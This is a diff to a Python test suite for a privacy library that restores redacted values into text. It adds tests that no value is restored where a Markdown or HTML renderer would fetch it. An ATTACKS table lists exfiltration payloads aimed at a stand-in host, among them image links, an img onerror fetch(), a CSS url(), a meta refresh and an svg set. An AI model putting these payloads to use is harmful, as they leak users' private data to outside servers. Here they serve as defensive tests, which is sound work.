@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import importlib.util
 import time
 
 import pytest
 from cryptography.hazmat.primitives.asymmetric import x25519
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 
 from privacy_partition._actions import Action
 from privacy_partition._errors import InputError, RestoreError
@@ -20,8 +22,7 @@ from privacy_partition.transform import (
     Transformer,
     Vault,
 )
-from privacy_partition.transform._links import LinkContext
-from strategies import RECIPIENT, answers, chunkings, finding_action
+from strategies import HOSTILE, PROSE, RECIPIENT, answers, chunkings, finding_action, leaked
 
 KEYSET = Keyset.generate()
 RECIPIENTS = {
@@ -162,7 +163,7 @@ def test_nothing_is_restored_inside_links_and_markup(template: str) -> None:
         ("https://x.io/ {h}", "https://x.io/ Paris"),
         ("[a](https://x.io/)\n{h}", "[a](https://x.io/)\nParis"),
         ('<a href="https://x.io/">{h}</a>', '<a href="https://x.io/">Paris</a>'),
-        ('<b title="{h}">{h}</b>', '<b title="Paris">Paris</b>'),
+        ('<b title="{h}">{h}</b>', '<b title="<LOCATION_1>">Paris</b>'),  # no attribute
         ("a <b and {h}", "a <b and Paris"),
         ("f(x) = {h}", "f(x) = Paris"),
         ("data: {h}", "data: Paris"),
@@ -191,7 +192,8 @@ def test_a_finished_stream_takes_no_more_input() -> None:
 
 
 def test_streams_hold_back_only_what_may_still_become_a_match() -> None:
-    stream = RESTORER.stream()
+    """With links allowed: only the shortest suffix that may still become a match."""
+    stream = Restorer(VAULT, KEYSET, allow_in_links=True).stream()
     assert stream.feed("plain text, no handles ") == "plain text, no handles "
     assert stream.feed("at <LOCA") == "at "
     assert stream.feed("TION_1> and <LOCATION_1") == "Paris and "
@@ -202,6 +204,22 @@ def test_streams_hold_back_only_what_may_still_become_a_match() -> None:
     assert stream.feed("!") == "Ann Lee!"
     assert stream.feed("<TOK:EMAIL_ADDRESS:") == ""
     assert stream.feed(" ") == "<TOK:EMAIL_ADDRESS: "
+    assert stream.finish() == ""
+
+
+def test_streams_hold_a_block_from_its_first_value_until_it_ends() -> None:
+    """By default: text before a block's first value is final, the rest waits for the block's
+    end (a blank line and a new block), since later text can make the value part of a link."""
+    stream = RESTORER.stream()
+    assert stream.feed("plain text, no handles ") == "plain text, no handles "
+    assert stream.feed("at <LOCA") == "at "
+    assert stream.feed("TION_1> and more") == ""
+    assert stream.feed(" text\n") == ""
+    assert stream.feed("\n") == ""  # a blank line: the next line may still continue a list
+    assert stream.feed("Next") == ""  # only a complete line starts a block
+    assert stream.feed(" block\n") == "Paris and more text\n\n" + "Next block\n"
+    assert stream.feed(f"![x](\n//host/?q={PARIS}") == "![x](\n//host/?q="
+    assert stream.feed(")\n\nlast\n") == f"{PARIS})\n\nlast\n"
     assert stream.finish() == ""
 
 
@@ -223,20 +241,67 @@ def test_streaming_equals_one_shot_for_any_chunking(data: st.DataObject) -> None
             assert "".join(out) == whole
 
 
-@settings(max_examples=200, deadline=None)
-@given(st.data())
-def test_link_context_depends_only_on_the_text_before(data: st.DataObject) -> None:
-    text = data.draw(answers([PARIS], [TOKEN], [ANN]))
-    by_char = LinkContext()
-    inside = [by_char.inside]
-    for char in text:
-        by_char.advance(char)
-        inside.append(by_char.inside)
-    chunked, position = LinkContext(), 0
-    for piece in data.draw(chunkings(text)):
-        chunked.advance(piece)
-        position += len(piece)
-        assert chunked.inside == inside[position]
+# The renderers an app may show an answer with: CommonMark with raw HTML, and with
+# autolinks where linkify-it-py is installed.
+RENDERERS = [MarkdownIt("commonmark", {"html": True})]
+if importlib.util.find_spec("linkify_it") is not None:  # optional: linkify-it-py
+    RENDERERS.append(MarkdownIt("commonmark", {"html": True, "linkify": True}).enable("linkify"))
+VALUES = ("Paris", "ann@acme.com", "Ann Lee", "4111 1111 1111 1111")
+
+# The outside review's forms (issue 13), each with a value where a renderer fetches it.
+ATTACKS = {
+    "line break before the destination": "![x](\n//host/?q={v})",
+    "reference definition": "[r]: //host/?q={v}\n\n![x][r]",
+    "escaped paren": "![x](https://host/\\)>?q={v})",
+    "pointy destination": "![x](<https://host/a )q={v}&c={w}>)",
+    "attribute name far before its value": "<img src" + " " * 40 + '="//host/?q={v}">',
+    "onerror handler": "<img src=x onerror=\"fetch('//host/?q={v}')\">",
+    "style body": "<style>body{{background:url(//host/?q={v})}}</style>",
+    "bare URL after >": "<p>x</p>>https://host/?q={v}",
+    "bare URL glued after >": "x>//host/?q={v}",
+    "scheme-relative URL": "see //host/?q={v}",
+    "autolink": "<https://host/?q={v}>",
+    "meta refresh": '<meta http-equiv="refresh" content="0;url=//host/?q={v}">',
+    "svg set": '<svg><set attributeName="href" to="//host/{v}"/></svg>',
+    "open tag across blocks": '<iframe src="//host/?q=\n\n{v}\n\n">',
+    "unclosed style across blocks": "<style>\n\n{v}\n\nbody{{}}",
+}
+
+
+@pytest.mark.parametrize("attack", list(ATTACKS.values()), ids=list(ATTACKS))
+def test_no_restored_value_lands_where_a_renderer_fetches(attack: str) -> None:
+    for v, w in ((PARIS, TOKEN), (TOKEN, CARD), (ANN, BOB), (CARD, PARIS)):
+        text = attack.format(v=v, w=w)
+        whole = RESTORER.restore(text)
+        assert streamed(RESTORER, list(text)) == whole
+        for md in RENDERERS:
+            assert leaked(md.render(whole), VALUES) == [], (text, whole)
+        # Allowed in links, the same text does restore (the attack is real).
+        assert restore(text, allow_in_links=True) != text
+
+
+@pytest.mark.parametrize("template", [*PROSE, "[{v}](https://x.io/) and {w}", "`{v}` in code"])
+def test_values_in_prose_code_and_link_text_are_restored(template: str) -> None:
+    text = template.format(v=PARIS, w=ANN)
+    assert RESTORER.restore(text) == template.format(v="Paris", w="Ann Lee")
+
+
+@pytest.mark.parametrize("template", HOSTILE)
+def test_hostile_places_keep_their_handles(template: str) -> None:
+    text = template.format(v=PARIS, w=TOKEN)
+    whole = RESTORER.restore(text)
+    for md in RENDERERS:
+        assert leaked(md.render(whole), VALUES) == [], text
+    assert streamed(RESTORER, [text[i : i + 3] for i in range(0, len(text), 3)]) == whole
+
+
+def test_a_value_that_is_markup_itself_is_not_restored_into_a_link() -> None:
+    vault = Vault.session()
+    handle = vault.handle_for("PHONE_NUMBER", "(212) 555-0199")
+    restorer = Restorer(vault, KEYSET)
+    # Restored, the value would close "[click]" into a link to "212".
+    assert restorer.restore(f"[click]{handle}") == f"[click]{handle}"
+    assert restorer.restore(f"call {handle}") == "call (212) 555-0199"
 
 
 @settings(max_examples=200, deadline=None)
@@ -273,6 +338,22 @@ def test_adversarial_answers_restore_in_linear_time(attack: str) -> None:
     out = "".join(stream.feed(attack[i : i + 4096]) for i in range(0, len(attack), 4096))
     assert out + stream.finish() == attack
     assert time.perf_counter() - started < 2.0
+
+
+@pytest.mark.parametrize(
+    "template",
+    ["{h} ", "[{h}](//x) ", "//{h}\n\n", "<a href=x>{h}</a>\n", "x {h}\n\n"],
+)
+def test_many_values_restore_in_linear_time(template: str) -> None:
+    attack = template.format(h=PARIS) * 10_000
+    if template.startswith("x"):
+        attack = '<div title="\n\n' + attack  # an attribute left open over every block
+    started = time.perf_counter()
+    whole = RESTORER.restore(attack)
+    stream = RESTORER.stream()
+    out = "".join(stream.feed(attack[i : i + 4096]) for i in range(0, len(attack), 4096))
+    assert out + stream.finish() == whole
+    assert time.perf_counter() - started < 4.0
 
 
 def test_restorer_repr_shows_no_values() -> None:
